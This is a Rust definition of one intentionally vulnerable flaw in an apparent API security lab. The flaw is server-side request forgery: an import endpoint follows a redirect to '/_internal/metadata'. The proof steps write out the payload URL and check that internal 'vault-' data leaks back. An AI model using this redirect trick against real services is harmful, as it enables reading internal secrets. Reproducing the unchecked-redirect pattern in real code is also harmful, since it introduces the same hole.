use crate::{
    flaws::{FlawItem, Protocol},
    proof::{
        Expect::{Has, Success},
        get, post,
    },
};

/// A redirect leads inside the network.
pub(crate) static FLAW: FlawItem = FlawItem {
    id: "redirect-followed",
    title: "A redirect leads inside the network",
    owasp: "API7:2023",
    cwe: 918,
    protocol: Protocol::Rest,
    operation: "POST /api/v1/documents/import",
    what: "The address is checked, the one that it redirects to is not.",
    proof: &[
        post(
            "ada",
            "/api/v1/documents/import",
            r#"{"url":"${origin}/_partner/hooks/redirect?to=/_internal/metadata"}"#,
        )
        .take(&[("document", r#""id":"#)])
        .shows(&[Success]),
        get("ada", "/api/v1/documents/${document}/content").shows(&[Has("vault-")]),
    ],
};
